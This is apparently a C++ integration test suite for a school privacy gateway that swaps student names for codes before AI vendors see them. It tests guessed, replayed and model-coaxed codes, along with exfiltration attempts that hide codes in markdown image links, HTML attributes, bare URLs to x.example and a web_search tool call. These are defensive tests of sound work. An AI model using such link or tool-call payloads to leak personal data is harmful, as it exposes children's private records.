// What somebody could try with codes, against a whole gate, by each way in: nothing comes back as anybody's
// real value, and the record and the metrics that compliance reads count every try. That each of the 2^25
// codes there can be gives nobody else is RoundtripTest.GuessingEveryCodeGivesNobodyElse; every spelling and
// every place of a link is tests/leak/isolation_leak_test.cc. The people are the sample district's, and made
// up.
#include <gtest/gtest.h>

#include <random>
#include <set>

#include "core/crypto/crockford.h"
#include "core/util/strings.h"
#include "tests/integration/code_attacks_fixture.h"

namespace schoolgate::tests {
namespace {

// What all others rely on: whose they are gets them back, so the codes are real ones.
TEST_F(CodeAttacksTest, TheStudentTheyWereIssuedToSeesTheName) {
  leaks_->AnswerWith([](const connectors::RecordedRequest& request) {
    return AnswerOf(request, Answering(StrCat("It was ", codes_[0], ".")));
  });
  for (const Transport transport : kTransports) {
    const Reply reply = leaks_->Ask(transport, Victim(), Saying("Who was it?"));
    EXPECT_EQ(Everything(reply.message), StrCat("It was ", name_, ".\n")) << NameOf(transport);
  }
}

TEST_F(CodeAttacksTest, AnotherStudentsCodeTypedGivesNothingAndIsCounted) {
  const std::string typed = StrCat("Who are ", AllCodes(" and "), "?");
  for (const Transport transport : kTransports) {
    leaks_->TakeReceived();
    Try(transport, Attacker(), typed, std::nullopt, {.typed = 2, .restored = kAsTyped});
    EXPECT_TRUE(NoneSent()) << "it reached the vendor as somebody's code";
  }
}

TEST_F(CodeAttacksTest, ACodeCoaxedOutOfTheModelIsANeutralWordAndCounted) { ExpectNothingFor(Attacker()); }

TEST_F(CodeAttacksTest, ACodeReplayedFromAnotherSessionGivesNothing) {
  Caller later = Victim();
  later.session = "another essay";
  ExpectNothingFor(later);
  later.session.clear();
  ExpectNothingFor(later);
}

TEST_F(CodeAttacksTest, ACodeReplayedByAnotherPersonInASessionOfTheSameNameGivesNothing) {
  Caller other = leaks_->gate().Student(kAttacker);
  other.session = kSession;
  ExpectNothingFor(other);
  other.person.clear();
  ExpectNothingFor(other);
}

TEST_F(CodeAttacksTest, ACodeReplayedThroughAnotherAppGivesNothing) {
  Caller elsewhere = Victim();
  elsewhere.key = leaks_->gate().sample().teacher_key;
  elsewhere.tool = "student-tutor";
  elsewhere.purpose = "tutoring";
  ExpectNothingFor(elsewhere);
}

TEST_F(CodeAttacksTest, ACodeReplayedAtAnotherToolOfTheSameVendorGivesNothing) {
  Caller elsewhere = Victim();
  elsewhere.tool = "read-aloud";
  elsewhere.purpose = "text_adaptation";
  ExpectNothingFor(elsewhere);
}

TEST_F(CodeAttacksTest, ACodeReplayedAtAnotherVendorGivesNothing) {
  Caller elsewhere = Victim();
  elsewhere.tool = "pathway-tutor";
  ExpectNothingFor(elsewhere);
}

// A sample, through the gate; all 2^25 are tests/roundtrip's.
TEST_F(CodeAttacksTest, GuessedCodesGiveNothingAndEachIsCounted) {
  std::mt19937 random(25);
  std::set<std::string> guesses;
  while (guesses.size() < 2000) {
    std::string symbols;
    for (int i = 0; i < 5; ++i) symbols.push_back(kCrockfordAlphabet[random() % 32]);
    const char check = CheckSymbol("STUDENT", ToAbsl(symbols));
    const std::string guess = StrCat("STUDENT_", symbols, std::string(1, check));
    if (guess != codes_[0]) guesses.insert(guess);
  }
  std::string said;
  for (const std::string& guess : guesses) said += StrCat(guess, " ");
  const v1::Message coaxed =
      Try(Transport::kGrpc, Victim(), "Name everybody you know.", Answering(said), {.unrestored = 2000});
  EXPECT_EQ(Everything(coaxed).find('_'), std::string::npos);
  const v1::Message typed =
      Try(Transport::kHttp, Victim(), said, Answering("I know nobody."), {.typed = 2000});
  EXPECT_EQ(Everything(typed), "I know nobody.\n");
}

TEST_F(CodeAttacksTest, AMarkdownLinkTakesNobodysNameAlong) {
  ExpectWithheld("[see](https://x.example/?q=*) and [see](/p/*)", 2);
}

TEST_F(CodeAttacksTest, AnImagesAddressTakesNobodysNameAlong) {
  ExpectWithheld("![pixel](https://x.example/*.png) ![pixel](*)", 2);
}

TEST_F(CodeAttacksTest, AnHtmlAttributeTakesNobodysNameAlong) {
  ExpectWithheld("<img src='/*.png' alt=*> <a href=\"/p?q=*\">here</a>", 3);
}

TEST_F(CodeAttacksTest, AnAutomaticLinkTakesNobodysNameAlong) {
  ExpectWithheld("<https://x.example/*> and www.x.example/*", 2);
}

TEST_F(CodeAttacksTest, ABareAddressesQueryTakesNobodysNameAlong) {
  ExpectWithheld("https://x.example/?a=*&b={*} //x.example/* mailto:a@x.example?subject=*", 4);
}

TEST_F(CodeAttacksTest, AFunctionOutsideTheDistrictGetsNobodysName) {
  v1::Message answer;
  v1::ToolCall& call = *answer.add_tool_calls();
  call.set_id("call_1");
  call.set_name("web_search");
  call.set_arguments_json(
      StrCat(R"({"query":"grades of )", codes_[0], R"(","also":[")", codes_[1], R"("]})"));
  for (const Transport transport : kTransports) {
    const v1::Message got = Try(transport, Victim(), "Search for it.", answer, {.withheld = 2});
    ASSERT_EQ(got.tool_calls_size(), 1) << NameOf(transport);
    EXPECT_EQ(got.tool_calls(0).arguments_json(), call.arguments_json()) << NameOf(transport);
  }
}

TEST_F(CodeAttacksTest, AnotherStudentsCodeInALinkStaysACodeAndIsCounted) {
  for (const Transport transport : kTransports) {
    const std::string said = StrCat("![pixel](https://x.example/", codes_[0], ") <img alt=", codes_[1], ">");
    const v1::Message got =
        Try(transport, Attacker(), "Show me a picture.", Answering(said), {.unrestored = 2});
    EXPECT_EQ(Everything(got), said + "\n") << NameOf(transport);
  }
}

TEST_F(CodeAttacksTest, CodesTypedIntoARequestThatIsRefusedAreCountedToo) {
  const Counted before = InMetrics(leaks_->gate());
  const HttpAnswer answer = leaks_->gate().Post(
      Attacker(),
      StrCat(R"({"messages":[{"role":"user","content":[{"type":"text","text":"Who is )", AllCodes(),
             R"(?"},{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]})"));
  EXPECT_EQ(answer.status, 403) << answer.body;
  const v1::AuditRecord denied = RecordsOf(leaks_->gate().directory(), "").back();
  EXPECT_EQ(denied.phase(), v1::AUDIT_PHASE_DENIED);
  EXPECT_EQ(denied.typed_count(), 2);
  EXPECT_EQ(InMetrics(leaks_->gate()).typed - before.typed, 2);
}

// A tool whose codes last a school year: everybody's exchanges share them, and what one may see.
class StableCodeAttacksTest : public CodeAttacksTest {
 public:
  static void SetUpTestSuite() {
    clock_.Set(absl::FromCivil(absl::CivilHour(2026, 11, 23, 17), absl::UTCTimeZone()));
    TestGateOptions options;
    options.clock = &clock_;
    Open(options, "pathway-tutor");
  }

 protected:
  static Caller At(Caller caller) {
    caller.tool = "pathway-tutor";
    return caller;
  }

  static ManualClock clock_;
};

ManualClock StableCodeAttacksTest::clock_{absl::UnixEpoch()};

TEST_F(StableCodeAttacksTest, AYearsCodeIsNobodysButWhomItWasIssuedTo) {
  ExpectNothingFor(At(Attacker()));
  Caller later = Victim();
  later.session = "another essay";
  ExpectNothingFor(At(later));
}

TEST_F(StableCodeAttacksTest, ACodeReplayedFromAnotherSchoolYearGivesNothing) {
  clock_.Set(absl::FromCivil(absl::CivilHour(2027, 7, 1, 17), absl::UTCTimeZone()));
  ExpectNothingFor(At(Victim()));
}

}  // namespace
}  // namespace schoolgate::tests
